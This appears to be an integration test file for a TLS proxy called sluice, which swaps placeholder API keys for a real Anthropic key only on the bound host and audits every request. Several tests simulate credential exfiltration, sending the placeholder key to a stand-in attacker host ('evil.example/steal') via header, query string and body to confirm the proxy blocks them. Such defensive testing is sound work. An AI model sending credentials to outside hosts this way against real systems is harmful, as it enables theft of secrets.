/**
 * The phantom swap end to end, with real TLS: agent → sluice proxy (MITM with its own CA) → fake HTTPS
 * upstream standing in for api.anthropic.com (SLUICE_RESOLVE + SLUICE_UPSTREAM_CA). Checks that only the
 * bound host ever sees the real secret, that the client never does, that streams are not buffered, that
 * upstream failures surface as failures, and that the secret is nowhere on disk, in logs or RPC results.
 */
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startDaemon, type TestDaemon } from '../fakes/daemon-harness.js';
import { startFakeUpstream, type FakeUpstream, type SeenRequest } from '../fakes/fake-upstream.js';
import { fakeSecret, filesContaining, openStream, randomAlnum, readStream, resolveSpec, seenText, tunnelRaw, waitFor } from './helpers.js';

const HOST = 'api.anthropic.com';
const SECRET = fakeSecret('sk-ant-api03-');
/** Everything any client of these tests received (status line, headers, body), for the final grep. */
const clientBytes: string[] = [];
/** Every RPC result these tests received, for the final grep. */
const rpcResults: unknown[] = [];

let upstream: FakeUpstream;
let d: TestDaemon;
let restarted: TestDaemon | null = null;
let phantom = '';

/** The daemon currently under test (the restarted one after the restart test). */
const daemon = () => restarted ?? d;

async function get(url: string, init: Parameters<TestDaemon['fetch']>[1] = {}) {
  const r = await daemon().fetch(url, init);
  clientBytes.push(`${r.status}\n${JSON.stringify(r.headers)}\n${r.text}`);
  return r;
}

/** Requests the upstream saw from `from` on whose path starts with `prefix`. */
function seenSince(from: number, prefix = '/'): SeenRequest[] {
  return upstream.seen.slice(from).filter((r) => r.path.startsWith(prefix));
}

beforeAll(async () => {
  upstream = await startFakeUpstream();
  d = await startDaemon({ upstreamPort: upstream.port });
  rpcResults.push(await d.client.call('rule.add', { verdict: 'allow', host: HOST }));
  const cred = await d.client.call('cred.add', { name: 'anthropic', hosts: [HOST], header: 'x-api-key', secret: SECRET });
  rpcResults.push(cred);
  phantom = cred.phantom;
});

afterAll(async () => {
  await restarted?.stop();
  await d?.stop();
  await upstream?.close();
});

describe('phantom swap on the bound host', () => {
  test('the phantom looks like an Anthropic key and is not the secret', () => {
    expect(phantom.startsWith('sk-ant-api03-')).toBe(true);
    expect(phantom).not.toContain(SECRET);
    expect(SECRET).not.toContain(phantom);
  });

  test('x-api-key header: upstream sees the real key, never the phantom; client never sees the key', async () => {
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/messages`, {
      method: 'POST',
      headers: { 'x-api-key': phantom, 'content-type': 'application/json' },
      body: '{"model":"m"}',
    });
    expect(r.status).toBe(200);
    expect(JSON.parse(r.text)).toMatchObject({ ok: true, path: '/v1/messages' });
    const seen = seenSince(from, '/v1/messages');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers['x-api-key']).toBe(SECRET);
    expect(seenText(seen[0]!)).not.toContain('SLUICE');
    expect(r.text).not.toContain(SECRET);
    expect(JSON.stringify(r.headers)).not.toContain(SECRET);
  });

  test('Authorization: Bearer phantom is swapped in place', async () => {
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/bearer`, { headers: { authorization: `Bearer ${phantom}` } });
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/bearer');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(seenText(seen[0]!)).not.toContain(phantom);
    expect(r.text).not.toContain(SECRET);
  });

  test('query string phantom is swapped', async () => {
    // Query, path and body injection are opt-in (issue 19): the next four tests run with every site on.
    await daemon().client.call('cred.update', { name: 'anthropic', inject: ['header', 'query', 'body', 'path'] });
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/query?key=${phantom}&x=1`, { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/query');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.path).toBe(`/v1/query?key=${SECRET}&x=1`);
    expect(seenText(seen[0]!)).not.toContain('SLUICE');
    expect(r.text).not.toContain(SECRET);
  });

  test('path phantom is swapped', async () => {
    const from = upstream.seen.length;
    // (The fake upstream echoes the path it saw, so this response is not added to the client grep.)
    const r = await daemon().fetch(`https://${HOST}/v1/keys/${phantom}/info`, { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/keys/');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.path).toBe(`/v1/keys/${SECRET}/info`);
    expect(seenText(seen[0]!)).not.toContain('SLUICE');
  });

  test('JSON body phantom is swapped and the body length stays consistent', async () => {
    const from = upstream.seen.length;
    const body = JSON.stringify({ api_key: phantom, nested: { token: `Bearer ${phantom}` }, text: 'hello' });
    const r = await get(`https://${HOST}/v1/json`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-api-key': phantom }, body });
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/json');
    expect(seen).toHaveLength(1);
    expect(JSON.parse(seen[0]!.body)).toEqual({ api_key: SECRET, nested: { token: `Bearer ${SECRET}` }, text: 'hello' });
    expect(Number(seen[0]!.headers['content-length'])).toBe(Buffer.byteLength(seen[0]!.body));
    expect(seenText(seen[0]!)).not.toContain('SLUICE');
    expect(r.text).not.toContain(SECRET);
  });

  test('URL-encoded form body phantom is swapped', async () => {
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/form`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-api-key': phantom },
      body: `grant_type=x&api_key=${encodeURIComponent(phantom)}&z=1`,
    });
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/form');
    expect(seen).toHaveLength(1);
    expect(new URLSearchParams(seen[0]!.body).get('api_key')).toBe(SECRET);
    expect(seenText(seen[0]!)).not.toContain('SLUICE');
    await daemon().client.call('cred.update', { name: 'anthropic', inject: ['header'] });
  });

  test('a request with no credential header gets the bound credential injected', async () => {
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/inject`);
    expect(r.status).toBe(200);
    const seen = seenSince(from, '/v1/inject');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers['x-api-key']).toBe(SECRET);
    expect(r.text).not.toContain(SECRET);
  });

  test('an unknown phantom-shaped token is refused with 401 unknown_phantom, never forwarded (issue 23)', async () => {
    const unknown = `sk-ant-api03-SLUICE${randomAlnum(40)}`;
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/unknown?k=${unknown}`, { headers: { authorization: `Bearer ${unknown}`, 'x-api-key': phantom } });
    expect(r.status).toBe(401);
    expect(r.headers['x-sluice-reason']).toBe('unknown_phantom');
    expect(seenSince(from, '/v1/unknown')).toHaveLength(0);
  });

  test('the proxy-authorization header an agent puts on the inner request is not forwarded', async () => {
    // undici refuses a proxy-authorization request header, so write the request by hand inside the TLS
    // tunnel: the header travels to sluice, which must not pass it on to the provider.
    const from = upstream.seen.length;
    const raw = await tunnelRaw(
      daemon(),
      HOST,
      `GET /v1/proxyauth HTTP/1.1\r\nHost: ${HOST}\r\nx-api-key: ${phantom}\r\nProxy-Authorization: Basic c2x1aWNlOmFiYw==\r\nConnection: close\r\n\r\n`,
    );
    expect(raw).toMatch(/^HTTP\/1\.1 200/);
    const seen = seenSince(from, '/v1/proxyauth');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers['proxy-authorization']).toBeUndefined();
  });
});

describe('phantom sent to a host it is not bound to', () => {
  test('evil.example without a rule: 403, phantom_leak audit row, upstream saw nothing', async () => {
    const from = upstream.seen.length;
    const r = await get('https://evil.example/steal?x=1', { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(403);
    expect(r.text).toMatch(/phantom/i);
    expect(r.text).not.toContain(SECRET);
    expect(upstream.seen.length).toBe(from);
    // nor did it open a prompt for a human
    const approvals = await daemon().client.call('approval.list');
    expect(approvals.approvals.filter((a) => a.host === 'evil.example')).toHaveLength(0);
    const row = await waitFor(async () => {
      const tail = await daemon().client.call('audit.tail', { n: 50 });
      rpcResults.push(tail);
      return tail.rows.find((x) => x.event === 'phantom_leak' && x.host === 'evil.example' && x.path === '/steal');
    }, 'a phantom_leak audit row');
    expect(row.credential).toContain('anthropic');
    expect(row.status).toBe(403);
  });

  test('evil.example allowed by a rule: still 403 for the phantom (header, query or body), upstream saw nothing', async () => {
    rpcResults.push(await daemon().client.call('rule.add', { verdict: 'allow', host: 'evil.example' }));
    const from = upstream.seen.length;
    const viaHeader = await get('https://evil.example/h', { headers: { authorization: `Bearer ${phantom}` } });
    const viaQuery = await get(`https://evil.example/q?key=${phantom}`);
    const viaBody = await get('https://evil.example/b', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ k: phantom }),
    });
    for (const r of [viaHeader, viaQuery, viaBody]) {
      expect(r.status).toBe(403);
      expect(r.text).not.toContain(SECRET);
    }
    expect(upstream.seen.length).toBe(from);
    // and a request there without a phantom goes through (the rule works; only the phantom is blocked)
    const clean = await get('https://evil.example/clean');
    expect(clean.status).toBe(200);
    const seen = seenSince(from);
    expect(seen.map((s) => s.path)).toEqual(['/clean']);
    expect(seenText(seen[0]!)).not.toContain(SECRET);
    const tail = await waitFor(async () => {
      const t = await daemon().client.call('audit.tail', { n: 50 });
      return t.rows.filter((x) => x.event === 'phantom_leak' && x.host === 'evil.example').length >= 4 ? t : null;
    }, 'four phantom_leak rows');
    rpcResults.push(tail);
  });
});

describe('streaming and upstream failures', () => {
  test('SSE: events reach the client before the stream ends (no buffering)', async () => {
    const r = await readStream(`https://${HOST}/sse?n=5&gap=100`, daemon().dispatcher(), { headers: { 'x-api-key': phantom } });
    clientBytes.push(r.chunks.map((c) => c.text).join(''));
    expect(r.status).toBe(200);
    const all = r.chunks.map((c) => c.text).join('');
    expect(all).toContain('[DONE]');
    expect((all.match(/event: message/g) ?? []).length).toBe(5);
    // The first chunk arrived on its own, before the last event existed upstream.
    expect(r.chunks[0]!.text).toContain('"i":0');
    expect(r.chunks[0]!.text).not.toContain('[DONE]');
    expect(r.chunks.length).toBeGreaterThanOrEqual(2);
    expect(r.chunks[0]!.at).toBeLessThan(r.endedAt);
  });

  test('upstream reset mid-body reaches the client as an error, not a clean 200', async () => {
    const disp = daemon().dispatcher();
    try {
      const res = await openStream(`https://${HOST}/reset-mid`, disp, { headers: { 'x-api-key': phantom } });
      expect(res.statusCode).toBe(200);
      await expect(res.body.text()).rejects.toThrow();
    } finally {
      await disp.destroy();
    }
  });

  test('upstream reset before any header → 502, no secret in the answer', async () => {
    const r = await get(`https://${HOST}/reset`, { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(502);
    expect(JSON.parse(r.text).sluice.code).toBe('upstream_error');
    expect(r.text).not.toContain(SECRET);
  });

  test('redirects are passed back, never followed', async () => {
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/redirect`, { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(302);
    expect(r.headers.location).toBe('https://evil.example/steal');
    expect(seenSince(from).map((s) => s.path)).toEqual(['/redirect']);
  });
});

describe('upstream with an untrusted certificate', () => {
  let bad: FakeUpstream;
  let d2: TestDaemon;

  beforeAll(async () => {
    bad = await startFakeUpstream({ untrusted: true });
    d2 = await startDaemon({ env: { SLUICE_RESOLVE: resolveSpec(bad.port, [[HOST, 443]]) } });
    await d2.client.call('rule.add', { verdict: 'allow', host: HOST });
  });

  afterAll(async () => {
    await d2?.stop();
    await bad?.close();
  });

  test('refused with 502 upstream_tls; the untrusted server never receives the request or the secret', async () => {
    const cred = await d2.client.call('cred.add', { name: 'anthropic', hosts: [HOST], header: 'x-api-key', secret: SECRET });
    const r = await d2.fetch(`https://${HOST}/v1/messages`, {
      method: 'POST',
      headers: { 'x-api-key': cred.phantom, 'content-type': 'application/json' },
      body: '{}',
    });
    clientBytes.push(r.text);
    expect(r.status).toBe(502);
    expect(JSON.parse(r.text).sluice.code).toBe('upstream_tls');
    expect(r.text).not.toContain(SECRET);
    expect(r.text).not.toContain(cred.phantom);
    expect(bad.seen).toHaveLength(0);
    expect(d2.logs()).not.toContain(SECRET);
  });
});

describe('audit, restart and the bytes on disk', () => {
  test('audit.tail shows the request with the credential name; audit.verify is ok', async () => {
    const tail = await waitFor(async () => {
      const t = await daemon().client.call('audit.tail', { n: 200 });
      return t.rows.some((r) => r.event === 'request' && r.path === '/v1/messages') ? t : null;
    }, 'a request audit row');
    rpcResults.push(tail);
    const row = tail.rows.find((r) => r.event === 'request' && r.path === '/v1/messages' && r.status === 200)!;
    expect(row).toMatchObject({ host: HOST, port: 443, method: 'POST', credential: 'anthropic', status: 200 });
    expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
    const v = await daemon().client.call('audit.verify');
    expect(v.ok).toBe(true);
    expect(v.rows).toBeGreaterThan(5);
  });

  test('after SIGKILL, a daemon on the same home keeps credentials, rules and an intact audit chain', async () => {
    const before = {
      creds: await d.client.call('cred.list'),
      rules: await d.client.call('rule.list'),
      // audit.verify first writes every queued audit row (an explicit flush), so each row it counts is
      // committed before the kill; nothing here waits for a batch timer.
      verify: await d.client.call('audit.verify'),
    };
    rpcResults.push(before.creds, before.rules);
    await d.kill('SIGKILL');
    restarted = await startDaemon({ home: d.home, upstreamPort: upstream.port });
    const creds = await restarted.client.call('cred.list');
    rpcResults.push(creds);
    expect(creds.credentials.map((c) => [c.name, c.phantom])).toEqual(before.creds.credentials.map((c) => [c.name, c.phantom]));
    const rules = await restarted.client.call('rule.list');
    expect(rules.rules.map((r) => [r.verdict, r.host])).toEqual(before.rules.rules.map((r) => [r.verdict, r.host]));
    const verify = await restarted.client.call('audit.verify');
    expect(verify.ok).toBe(true);
    expect(verify.rows).toBeGreaterThanOrEqual(before.verify.rows);
    // the decrypted secret still works after the restart
    const from = upstream.seen.length;
    const r = await get(`https://${HOST}/v1/after-restart`, { headers: { 'x-api-key': phantom } });
    expect(r.status).toBe(200);
    expect(seenSince(from, '/v1/after-restart')[0]!.headers['x-api-key']).toBe(SECRET);
  });

  test('grep the bytes: the secret is nowhere in the DB, WAL, log, RPC results or client responses', async () => {
    const c = daemon().client;
    const sub = await c.call('events.subscribe', {});
    rpcResults.push(
      sub,
      await c.call('cred.list'),
      await c.call('daemon.status'),
      await c.call('audit.tail', { n: 10_000 }),
      await c.call('stats.snapshot'),
      await c.call('limits.get'),
      await c.call('rule.list'),
      await c.call('cred.update', { name: 'anthropic', max_concurrent: 9 }),
    );
    // The update's audit row is on disk before the DB bytes are read (audit.tail flushes the queue).
    await waitFor(
      async () =>
        (await c.call('audit.tail', { n: 20 })).rows.some(
          (r) => r.event === 'cred_updated' && r.credential === 'anthropic' && (r.detail ?? '').includes('max_concurrent'),
        ),
      'the cred_updated audit row',
    );
    const home = daemon().home;
    const dbFiles = ['sluice.db', 'sluice.db-wal', 'sluiced.log'].map((f) => path.join(home, f));
    expect(fs.existsSync(dbFiles[0]!)).toBe(true);
    expect(fs.existsSync(dbFiles[2]!)).toBe(true);
    const core = SECRET.slice('sk-ant-api03-'.length);
    for (const needle of [SECRET, core]) {
      // every file in the state dir (the proxy token and master key are not secrets of this credential)
      expect(filesContaining(home, needle)).toEqual([]);
      for (const f of dbFiles) if (fs.existsSync(f)) expect(fs.readFileSync(f).includes(Buffer.from(needle)), f).toBe(false);
      expect(d.logs()).not.toContain(needle);
      expect(restarted?.logs() ?? '').not.toContain(needle);
      expect(JSON.stringify(rpcResults)).not.toContain(needle);
      for (const b of clientBytes) expect(b).not.toContain(needle);
    }
    // the test itself is sound: the grep target really went upstream
    expect(upstream.seen.some((s) => s.headers['x-api-key'] === SECRET)).toBe(true);
    expect(clientBytes.length).toBeGreaterThan(10);
  });
});

describe('audit chain tamper check', () => {
  test('an audit row edited on disk while the daemon is down is found by audit.verify', async () => {
    const current = daemon();
    const before = await current.client.call('audit.verify');
    expect(before.ok).toBe(true);
    await current.stop();
    expect(current.proc.exitCode).toBe(0);
    const db = new Database(path.join(current.home, 'sluice.db'));
    let target: number;
    try {
      const row = db.prepare("SELECT id FROM audit_log WHERE event = 'request' ORDER BY id LIMIT 1 OFFSET 2").get() as { id: number };
      target = row.id;
      db.prepare("UPDATE audit_log SET path = '/innocent' WHERE id = ?").run(target);
    } finally {
      db.close();
    }
    restarted = await startDaemon({ home: current.home, upstreamPort: upstream.port });
    const v = await restarted.client.call('audit.verify');
    expect(v.ok).toBe(false);
    expect(v.first_bad_id).toBe(target);
    expect(v.reason).toBeTruthy();
  });
});
